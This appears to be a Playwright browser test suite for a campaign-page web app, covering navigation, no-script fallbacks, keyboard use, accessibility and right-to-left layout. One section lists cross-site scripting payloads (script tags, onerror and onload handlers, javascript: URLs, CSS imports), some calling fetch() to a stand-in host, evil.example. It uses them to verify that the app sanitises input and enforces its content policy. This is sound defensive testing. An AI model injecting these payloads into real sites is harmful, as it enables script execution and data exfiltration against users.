import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import type { Browser, BrowserContextOptions, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect } from 'vitest';
import { launchBrowser } from '../../bench/browser.ts';
import { browserTest } from '../support/browser.ts';
import { campaign, type TestJourney, type TestPage, testPage } from '../support/journeys.ts';
import { service, type TestService } from '../support/service.ts';

let api: TestService;
let browser: Browser | undefined;

beforeAll(async () => {
  api = await service();
});
afterAll(() => browser?.close());

const phone: BrowserContextOptions = { viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true };
const desktop: BrowserContextOptions = { viewport: { width: 1280, height: 800 } };
const withoutScripts: BrowserContextOptions = { ...phone, javaScriptEnabled: false };

/** What the interface says comes a moment after the page has reported it. */
const eventually = <T>(value: () => Promise<T>) => expect.poll(value, { timeout: 10_000 });

type Seen = { outside: string[]; dialogs: string[]; complaints: string[]; documents: number };

/** A page that nothing else has to do with, and what it did that no page of ours does. */
async function open(options: BrowserContextOptions): Promise<{ page: Page; seen: Seen }> {
  browser ??= await launchBrowser();
  const context = await browser.newContext(options);
  const page = await context.newPage();
  const seen: Seen = { outside: [], dialogs: [], complaints: [], documents: 0 };
  await context.route('**', (route) => {
    const url = route.request().url();
    if (url.startsWith(api.baseUrl) || url.startsWith('data:')) return route.continue();
    seen.outside.push(url);
    return route.abort();
  });
  page.on('dialog', (dialog) => {
    seen.dialogs.push(dialog.message());
    return dialog.dismiss();
  });
  page.on('console', (message) => {
    if (message.type() === 'error') seen.complaints.push(message.text());
  });
  page.on('pageerror', (error) => seen.complaints.push(error.message));
  page.on('request', (request) => {
    if (request.isNavigationRequest() && request.url().startsWith(api.baseUrl)) seen.documents++;
  });
  return { page, seen };
}

const block = (type: string, data: object, order = 1) => ({ type, order, data });
const pages = {
  view: testPage('view', { navigation_title: 'Look around', content_blocks: [block('heading', { heading: 'Hello' })] }),
  agree: testPage('confirm', {
    navigation_title: 'Agree',
    completion_message: 'We know.',
    content_blocks: [
      block('agreement', {
        heading: 'Terms',
        agreementText: 'I agree to whatever is written in the document below.',
        disagreeText: 'No, thanks',
        declinedConfirmationText: 'Nothing changes.',
        acceptedConfirmationText: 'Thank you for agreeing.',
        signatureBoxText: 'Your full name',
      }),
    ],
  }),
  act: testPage('action', {
    navigation_title: 'Act',
    content_blocks: [block('button', { text: 'Call us', url: 'tel:+15550100' })],
  }),
  confirm: testPage('confirm', {
    navigation_title: 'Confirm',
    content_blocks: [block('text', { body: 'All right?' })],
  }),
  end: testPage(null, {
    navigation_title: 'Survey',
    content_blocks: [block('survey', { questions: [{ text: 'How was it?', scale: [1, 5] }] })],
  }),
};
const going = () =>
  campaign(api, Object.values(pages), { journey_title_options: { type: 'CUSTOM', custom: 'Our way' } });

const progressOf = (of: Awaited<ReturnType<typeof going>>, journey: TestJourney) => async () => {
  const { pages_viewed, pages_completed, is_completed } = await of.analytics(journey);
  const names = (ids: string[]) => ids.map((id) => Object.entries(pages).find(([, page]) => page.id === id)![0]);
  return { viewed: names(pages_viewed), completed: names(pages_completed), is_completed };
};

describe('a person goes from the address to the end', () => {
  browserTest.each([
    ['on a phone', phone],
    ['on a desktop', desktop],
  ])('%s, without ever leaving a page to act', async (_, screen) => {
    const campaigned = await going();
    const journey = await campaigned.start({ name_first: 'Jana' });
    const progress = progressOf(campaigned, journey);
    const { page, seen } = await open(screen);

    await page.goto(journey.url);
    await eventually(progress).toEqual({ viewed: ['view'], completed: ['view'], is_completed: false });
    await page.getByRole('img', { name: '1 of 4 steps completed' }).waitFor();

    await page.getByRole('link', { name: 'Next: Agree' }).click();
    await page.getByText('No, thanks').click();
    await page.getByText('Nothing changes.').waitFor();
    await page.getByRole('button', { name: 'I agree' }).click();
    await eventually(progress).toEqual({ viewed: ['view', 'agree'], completed: ['view'], is_completed: false });
    await page.getByLabel('Your full name').fill('Jana Novotna');
    await page.getByRole('button', { name: 'I agree' }).click();
    await page.getByText('Thank you for agreeing.').waitFor();
    await page.getByText('We know.').waitFor();
    await eventually(progress).toMatchObject({ completed: ['view', 'agree'], is_completed: false });
    expect(await page.evaluate('document.activeElement.className')).toBe('outcome');

    await page.getByRole('link', { name: 'Next: Act' }).click();
    await page.getByRole('link', { name: 'Call us' }).dispatchEvent('click');
    await eventually(progress).toMatchObject({ completed: ['view', 'agree', 'act'], is_completed: false });

    await page.getByRole('link', { name: 'Next: Confirm' }).click();
    await page.getByRole('button', { name: 'Confirm' }).click();
    await page.getByText('You have completed every step.').waitFor();
    await eventually(progress).toEqual({
      viewed: ['view', 'agree', 'act', 'confirm'],
      completed: ['view', 'agree', 'act', 'confirm'],
      is_completed: true,
    });
    await page.getByRole('link', { name: 'Next: Survey' }).click();
    await page.getByText('4', { exact: true }).last().click();
    await eventually(async () => (await campaigned.analytics(journey)).is_completely_viewed).toBe(true);
    expect(seen).toEqual({ outside: [], dialogs: [], complaints: [], documents: 5 });
    expect(page.url()).not.toMatch(/Jana|Novotna/);
    expect(await page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(screen.viewport!.width);
  });

  browserTest('without scripts: views by an image, confirmations by a form', async () => {
    const campaigned = await going();
    const journey = await campaigned.start();
    const progress = progressOf(campaigned, journey);
    const { page, seen } = await open(withoutScripts);

    await page.goto(journey.url);
    await eventually(progress).toEqual({ viewed: ['view'], completed: ['view'], is_completed: false });
    await page.getByRole('link', { name: 'Next: Agree' }).click();
    await page.getByText('No, thanks').click();
    await page.getByText('Nothing changes.').waitFor();
    await page.getByLabel('Your full name').fill('Jana Novotna');
    await page.getByRole('button', { name: 'I agree' }).click();
    await page.getByText('Thank you for agreeing.').waitFor();
    await expect
      .poll(progress)
      .toEqual({ viewed: ['view', 'agree'], completed: ['view', 'agree'], is_completed: false });
    expect(page.url()).toBe(`${journey.url}?page=${pages.agree.id}`);
    await page.getByRole('link', { name: 'Next: Act' }).click();
    await page.getByRole('button', { name: 'I have done this' }).click();
    await page.getByRole('link', { name: 'Next: Confirm' }).click();
    await page.getByRole('button', { name: 'Confirm' }).click();
    await page.getByText('You have completed every step.').waitFor();
    await eventually(async () => (await campaigned.analytics(journey)).is_completed).toBe(true);
    expect([seen.outside, seen.dialogs, seen.complaints]).toEqual([[], [], []]);
  });

  browserTest('with the keyboard alone', async () => {
    const campaigned = await going();
    const journey = await campaigned.start();
    const { page } = await open(desktop);
    await page.goto(`${journey.url}?page=${pages.agree.id}`);
    await page.keyboard.press('Tab');
    expect(await page.evaluate('document.activeElement.textContent')).toBe('Skip to the content');
    await page.keyboard.press('Enter');
    await page.keyboard.press('Tab');
    await page.keyboard.type('Jana Novotna');
    await page.keyboard.press('Enter');
    await page.getByText('Thank you for agreeing.').waitFor();
    expect((await campaigned.analytics(journey)).pages_completed).toContain(pages.agree.id);
  });
});

describe('a page that is completed by being seen', () => {
  browserTest('takes nothing from the hands of whoever is at work on it', async () => {
    const questions = [{ text: 'What do you think?' }];
    const { start, analytics } = await campaign(api, [
      testPage('view', { content_blocks: [block('survey', { questions })] }),
    ]);
    const journey = await start();
    const { page } = await open(desktop);
    let release = () => {};
    const held = new Promise<void>((resolve) => {
      release = resolve;
    });
    await page.route('**/actions', async (route) => {
      await held;
      await route.continue();
    });
    await page.goto(journey.url);
    await page.getByLabel('What do you think?').fill('A lot');
    release();
    await page.getByRole('img', { name: 'All steps completed' }).waitFor();
    expect(await page.getByLabel('What do you think?').inputValue()).toBe('A lot');
    expect((await analytics(journey)).is_completed).toBe(true);
  });
});

describe('content and contacts', () => {
  const traces = ['alert(1)', 'fetch("https://evil.example/?x")'];
  const attacks = traces.flatMap((trace) => [
    `<script>${trace}</script>`,
    `"><img src=x onerror='${trace}'>`,
    `'><svg onload="${trace}">`,
    `javascript:${trace}`,
    `</style><script>${trace}</script>`,
    `</textarea></title><script>${trace}</script>`,
    `{{name_last}}<iframe srcdoc="<script>${trace}</script>">`,
  ]);
  const attack = attacks.join(' ');
  const css = `* { background: url(https://evil.example/css) } @import "https://evil.example/i.css";
    @font-face { font-family: x; src: url(https://evil.example/f) } body { margin: 0 } header, footer { display: none }
    :root ~ *, .stage { display: none } :root, p { position: fixed; inset: -99px; z-index: 99; contain: none } p { color: red } ${attack}`;
  const everything = { heading: attack, body: attack, text: attack, name: attack, altText: attack, caption: attack };
  const agreed = { agreementText: attack, disagreeText: attack, signatureBoxText: attack, customClass: attack };
  const told = { acceptedConfirmationText: attack, declinedConfirmationText: attack, documentLinkText: attack };
  const types = [
    'heading',
    'text',
    'card',
    'image',
    'button',
    'document_link',
    'agreement',
    'survey',
    'confirm',
    attack,
  ];
  const addresses = attacks.map((url) => ({ url, src: url, documentLinkUrl: url, href: url }));
  const blocks = types.flatMap((type, at) =>
    addresses.map((each, nth) => ({
      type,
      order: at * 100 + nth,
      slug: attack,
      css,
      styles: { color: attack, [attack]: { color: attack }, backgroundImage: 'url(https://evil.example/s)' },
      grid: { xs: attack, md: 6 },
      data: { ...everything, ...agreed, ...told, ...each, questions: [attack, { text: attack, options: [attack] }] },
    })),
  );
  const page: TestPage = testPage('confirm', {
    content_blocks: blocks,
    css,
    styles: { [attack]: { color: 'red' } },
    navigation_title: attack,
    content_name: attack,
    content: attack,
    completion_message: attack,
    cta: { text: attack, url: attacks[0] },
    variables: { [attack]: attack, x: attack },
  });
  const odd = Object.fromEntries(
    ['primary', 'secondary', 'background', 'text', 'surface'].map((name) => [name, attack]),
  );
  const template = {
    name: attack,
    css,
    custom_css: css,
    styles: {
      palette: odd,
      typography: { heading: attack, body: attack },
      custom: { a: attack },
      overrides: { [attack]: odd },
    },
    theme_overrides: { button_radius: attack },
    footer_content: { text: attack, links: attacks.map((url) => ({ text: attack, url })) },
    journey_title_options: { type: 'CONTACT_NAME' },
    content_blocks: blocks.slice(0, 10),
  };

  browserTest('run nothing, load nothing and hide nothing of the frame, whatever they hold', async () => {
    const { start } = await campaign(api, [page, testPage(null, { navigation_title: attack })], template);
    const { url } = await start({ name_first: attack, name_last: attack, meta_public: { [attack]: attack } });
    const { page: opened, seen } = await open(desktop);
    await opened.goto(url);
    await opened.waitForLoadState('networkidle');
    expect(await opened.getByRole('contentinfo').isVisible()).toBe(true);
    expect(await opened.getByRole('banner').isVisible()).toBe(true);
    const top = await opened.evaluate('document.elementFromPoint(640, 20)?.closest("header") !== null');
    expect(top).toBe(true);
    expect(
      await opened.locator('iframe, svg[onload], img[onerror], [onerror], script:not(body > script)').count(),
    ).toBe(0);
    expect(await opened.locator('script').count()).toBe(1);
    expect([seen.outside, seen.dialogs, seen.complaints]).toEqual([[], [], []]);
  });

  browserTest('are stopped by the policy even where an injection got in', async () => {
    const { start } = await going();
    const { page: opened, seen } = await open(desktop);
    await opened.goto((await start()).url);
    await opened.evaluate(`
      const script = document.createElement('script');
      script.textContent = 'alert(1)';
      document.body.append(script);
      document.body.insertAdjacentHTML('beforeend', '<img src="https://evil.example/i"><p style="color:red">x</p>');
    `);
    await opened.waitForTimeout(200);
    expect([seen.outside, seen.dialogs]).toEqual([[], []]);
    expect(seen.complaints.length).toBeGreaterThanOrEqual(3);
  });
});

describe('the page is for everybody', () => {
  const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
  type Axe = { violations: { id: string; impact: string; nodes: { html: string }[] }[] };
  const sample = JSON.parse(readFileSync(new URL('../../examples/campaigns.json', import.meta.url), 'utf8'));

  browserTest.each([
    ['on a phone', phone],
    ['on a desktop', desktop],
  ])('axe finds nothing serious in any page of the sample campaign %s', async (_, screen) => {
    const [welcome] = sample.templates;
    const samplePages = welcome.template_pages.map(({ page }: { page: TestPage }) => ({
      ...page,
      objective_id: null,
      content_containers: [],
    }));
    const { start } = await campaign(api, samplePages, { ...welcome, template_messages: [] });
    const { url } = await start({ name_first: 'Jana' });
    const { page } = await open(screen);
    const found: string[] = [];
    for (const { id } of samplePages) {
      await page.goto(`${url}?page=${id}`);
      await page.evaluate(axe);
      const { violations } = await page.evaluate<Axe>('axe.run()');
      found.push(...violations.map((each) => `${id} ${each.impact} ${each.id} ${each.nodes[0]?.html}`));
      expect(await page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(screen.viewport!.width);
    }
    expect(found).toEqual([]);
  });

  browserTest('and so are the pages that say why there is nothing', async () => {
    const { page } = await open(phone);
    await page.goto(`${api.baseUrl}/j/${'A'.repeat(24)}`);
    await page.evaluate(axe);
    const { violations } = await page.evaluate<Axe>('axe.run()');
    expect(violations.map(({ id }) => id)).toEqual([]);
  });

  browserTest.each([
    ['on a phone', phone],
    ['on a desktop', desktop],
  ])('and so are the pages in Arabic, from right to left, %s', async (_, screen) => {
    const { start } = await campaign(api, Object.values(pages), { language: 'ar' });
    const { url } = await start();
    const { page, seen } = await open(screen);
    for (const { id } of Object.values(pages)) {
      await page.goto(`${url}?page=${id}`);
      await page.evaluate(axe);
      const { violations } = await page.evaluate<Axe>('axe.run()');
      expect(violations.map(({ id }) => id)).toEqual([]);
      expect(await page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(screen.viewport!.width);
    }
    await page.goto(`${url}?page=${pages.agree.id}`);
    const leftOf = async (selector: string) => (await page.locator(selector).boundingBox())!.x;
    expect(await leftOf('.onward [rel=next]')).toBeLessThan(await leftOf('.onward [rel=prev]'));
    expect(await leftOf('.progress')).toBeLessThan(await leftOf('h1'));
    await page.route('**/actions', (route) => route.abort());
    await page.getByLabel('Your full name').fill('Jana Novotna');
    await page.getByRole('button', { name: 'أوافق' }).click();
    await page.getByRole('alert').getByText('تعذّر الإرسال').waitFor();
    expect(await page.getByLabel('Your full name').inputValue()).toBe('Jana Novotna');
    expect(seen.dialogs).toEqual([]);
  });
});
